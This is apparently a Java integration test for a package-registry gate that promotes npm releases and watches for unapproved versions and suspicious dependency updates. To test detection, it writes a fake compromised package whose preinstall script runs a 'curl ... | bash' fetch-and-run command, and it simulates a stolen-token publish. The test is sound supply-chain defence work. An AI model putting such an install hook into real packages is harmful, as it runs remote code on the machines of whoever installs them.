package dev.portcullis.registry.npm;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.portcullis.identity.Permission;
import dev.portcullis.identity.Role;
import dev.portcullis.publish.Artifact;
import dev.portcullis.testing.CliRunner;
import dev.portcullis.testing.HookReceiver;
import dev.portcullis.testing.NpmClient;
import dev.portcullis.testing.Processes;
import dev.portcullis.testing.TestPolicies;
import dev.portcullis.testing.TestServer;
import dev.portcullis.watch.WatchSettings;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * npm upstream: a second Portcullis plays the public npm registry (it speaks npm's protocol and
 * releases token publishes at once, as npmjs.com does). The gate promotes what it approves with npm's
 * own publish request, recognises its own earlier upload after a crash, and watches the registry: its
 * promoted version raises nothing, a version published straight there with a token (the lightning
 * path, npm-shaped) is a critical alert, and a watched dependency's new version that adds an install
 * script is inspected and alerted. Nothing runs by itself: each step is an explicit tick.
 */
class NpmUpstreamTest {

    @TempDir
    Path dir;

    @Test
    void theGatePromotesToAnNpmRegistryAndWatchesIt() throws Exception {
        HookReceiver receiver = new HookReceiver();
        try (TestServer registry = TestServer.start(
                        "sqlite", dir.resolve("public"), settings -> settings.withScheduledWork(false));
                TestServer gate = TestServer.start(
                        "sqlite",
                        dir.resolve("gate"),
                        settings -> settings.withScheduledWork(false)
                                .withWatch(WatchSettings.DEFAULTS
                                        .withUpstreamInterval(Duration.ofSeconds(1))
                                        .withAlerts(
                                                List.of(new WatchSettings.Webhook(receiver.url(), List.of())),
                                                List.of(),
                                                List.of(),
                                                null,
                                                "medium")))) {
            for (String project : List.of("npm:widget", "npm:@acme/util", "npm:colors-lib")) {
                assertThat(registry.importPolicy(project, TestPolicies.RELEASE_EVERYTHING)
                                .code())
                        .isZero();
            }
            String publicToken = registry.token("maintainer", Role.MAINTAINER, null, Permission.UPLOAD);
            NpmClient direct = new NpmClient(dir.resolve("attacker"), registry.url(), publicToken);
            String ci = gate.token("ci", Role.MAINTAINER, null, Permission.UPLOAD);
            NpmClient publisher = new NpmClient(dir.resolve("ci"), gate.url(), ci);
            String index = registry.url() + "/npm";

            // Promotion: what the gate approves goes up with npm's publish, the approved bytes exactly.
            for (String project : List.of("npm:widget", "npm:@acme/util")) {
                CliRunner.Output target = CliRunner.runWithStdin(
                        publicToken + "\n",
                        "upstream",
                        "set",
                        project,
                        "--upload-url",
                        index,
                        "--otp",
                        gate.admin().otp(),
                        "--server",
                        gate.url(),
                        "--token",
                        gate.adminToken());
                assertThat(target.code()).as(target.err()).isZero();
            }
            Processes.Result published =
                    publisher.run(NpmClient.packageDir(dir, "widget", "1.0.0", "'widget'", null), "publish");
            assertThat(published.exitCode()).as(published.output()).isZero();
            Processes.Result scoped = publisher.run(
                    NpmClient.packageDir(dir, "@acme/util", "0.1.0", "'util'", null), "publish", "--access", "public");
            assertThat(scoped.exitCode()).as(scoped.output()).isZero();
            assertThat(gate.approve("npm:widget", "1.0.0").status()).isEqualTo(200);
            assertThat(gate.approve("npm:@acme%2Futil", "0.1.0").status()).isEqualTo(200);
            gate.tick();
            registry.tick(); // the public registry releases token publishes at once
            for (String project : List.of("npm:widget", "npm:@acme/util")) {
                Artifact approved =
                        gate.app().catalog().releasedArtifacts(project).getFirst();
                assertThat(registry.app().catalog().releasedArtifacts(project))
                        .singleElement()
                        .satisfies(a -> assertThat(a.sha256()).isEqualTo(approved.sha256()));
            }
            assertThat(gate.events("ReleasePromoted")).isEqualTo(2);
            NpmClient installer = new NpmClient(dir.resolve("dev"), registry.url(), null);
            Path app = Files.createDirectories(dir.resolve("app"));
            Processes.Result installed = installer.run(app, "install", "widget", "@acme/util");
            assertThat(installed.exitCode()).as(installed.output()).isZero();
            assertThat(Files.readString(app.resolve("node_modules/@acme/util/index.js")))
                    .contains("'util'");

            // A crash after the upload, before it was recorded: the retry finds its own bytes there.
            gate.app()
                    .database()
                    .withHandle(h -> h.createUpdate(
                                    "UPDATE promotions SET state = 'pending', next_attempt_at = 0, uploaded_at = NULL")
                            .execute());
            gate.tick();
            assertThat(gate.events("ReleasePromoted")).isEqualTo(4);
            assertThat(registry.app().catalog().releasedArtifacts("npm:widget")).hasSize(1);
            int uploaded = gate.app()
                    .database()
                    .withHandle(h -> h.createQuery("SELECT COUNT(*) FROM promotions WHERE state = 'uploaded'")
                            .mapTo(Integer.class)
                            .one());
            assertThat(uploaded).isEqualTo(2);

            // Without a URL, a project is promoted to its ecosystem's public registry.
            CliRunner.Output npmjs = CliRunner.runWithStdin(
                    "npm_not_a_real_token\n",
                    "upstream",
                    "set",
                    "npm:colors-lib",
                    "--otp",
                    gate.admin().otp(),
                    "--server",
                    gate.url(),
                    "--token",
                    gate.adminToken());
            assertThat(npmjs.code()).as(npmjs.err()).isZero();
            assertThat(npmjs.out()).contains("will be uploaded to https://registry.npmjs.org");

            // Watching the registry: the promoted version is the gate's.
            CliRunner.Output watch = CliRunner.run(
                    "watch",
                    "add",
                    "widget",
                    "--index",
                    index,
                    "--ecosystem",
                    "npm",
                    "--server",
                    gate.url(),
                    "--token",
                    gate.adminToken());
            assertThat(watch.code()).as(watch.err()).isZero();
            gate.pollWatches();
            assertThat(gate.upstreamVerdicts()).containsExactly("approved");
            assertThat(receiver.json()).noneMatch(h -> h.path("type").asText().startsWith("Upstream"));

            // The lightning path with npm: a stolen token publishes straight to the registry.
            Processes.Result stolen = direct.run(
                    NpmClient.packageDir(
                            dir.resolve("attack"),
                            "widget",
                            "1.0.1",
                            "'widget'",
                            "\"scripts\": {\"postinstall\": \"node setup.js\"}"),
                    "publish");
            assertThat(stolen.exitCode()).as(stolen.output()).isZero();
            registry.tick();
            gate.pollWatches();
            JsonNode alarm = receiver.json().stream()
                    .filter(h -> h.path("type").asText().equals("UpstreamFileUnapproved"))
                    .findFirst()
                    .orElseThrow();
            assertThat(alarm.path("level").asText()).isEqualTo("critical");
            assertThat(alarm.path("subject").asText()).isEqualTo("1.0.1");
            assertThat(alarm.path("message").asText())
                    .contains("widget-1.0.1.tgz appeared on " + index)
                    .contains("the gate never approved it")
                    .contains("Size not listed");
            assertThat(alarm.path("digest").asText()).startsWith("sha512-");

            // A watched dependency: its next version adds an install script that downloads and runs code.
            Processes.Result clean =
                    direct.run(NpmClient.packageDir(dir, "colors-lib", "1.4.0", "'colors'", null), "publish");
            assertThat(clean.exitCode()).as(clean.output()).isZero();
            registry.tick();
            CliRunner.Output dependency = CliRunner.run(
                    "watch",
                    "add",
                    "colors-lib",
                    "--index",
                    index,
                    "--ecosystem",
                    "npm",
                    "--dependency",
                    "--server",
                    gate.url(),
                    "--token",
                    gate.adminToken());
            assertThat(dependency.code()).as(dependency.err()).isZero();
            gate.pollWatches();
            Path evil = NpmClient.packageDir(
                    dir.resolve("evil"),
                    "colors-lib",
                    "1.4.1",
                    "'colors'",
                    "\"scripts\": {\"preinstall\": \"node bundle.js\"}");
            Files.writeString(
                    evil.resolve("bundle.js"),
                    "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');\n");
            Processes.Result compromised = direct.run(evil, "publish");
            assertThat(compromised.exitCode()).as(compromised.output()).isZero();
            registry.tick();
            gate.pollWatches();
            JsonNode suspicious = receiver.json().stream()
                    .filter(h -> h.path("type").asText().equals("DependencyReleaseSuspicious"))
                    .findFirst()
                    .orElseThrow();
            assertThat(suspicious.path("subject").asText()).isEqualTo("1.4.1");
            assertThat(suspicious.path("message").asText()).contains("preinstall");
            assertThat(receiver.json())
                    .noneMatch(h -> h.path("subject").asText().equals("1.4.0"));
        } finally {
            receiver.close();
        }
    }

    /** The real public npm registry lists a real package's versions with their SHA-512 integrity. */
    @Test
    void theWatcherReadsTheRealNpmRegistry() {
        try (TestServer gate = TestServer.start(
                "sqlite",
                dir.resolve("gate"),
                settings -> settings.withScheduledWork(false)
                        .withOutbound(dev.portcullis.net.OutboundPolicy.allowing("registry.npmjs.org")))) {
            CliRunner.Output watch = CliRunner.run(
                    "watch",
                    "add",
                    "npm:left-pad",
                    "--dependency",
                    "--server",
                    gate.url(),
                    "--token",
                    gate.adminToken());
            assertThat(watch.code()).as(watch.err()).isZero();
            gate.pollWatches();
            List<Map<String, Object>> seen = gate.app()
                    .database()
                    .withHandle(h -> h.createQuery("SELECT version, filename, digest, verdict FROM upstream_files")
                            .mapToMap()
                            .list());
            assertThat(seen)
                    .as("left-pad's versions on registry.npmjs.org (its 1.3.0 was published in 2018)")
                    .anySatisfy(row -> {
                        assertThat(row.get("version")).isEqualTo("1.3.0");
                        assertThat(row.get("filename")).isEqualTo("left-pad-1.3.0.tgz");
                        assertThat((String) row.get("digest")).startsWith("sha512-");
                    });
            assertThat(seen).allSatisfy(row -> assertThat(row.get("verdict")).isEqualTo("seen"));
            assertThat(gate.app().upstreamWatcher().list())
                    .singleElement()
                    .satisfies(w -> assertThat(w.state()).isEqualTo("ok"));
        }
    }
}
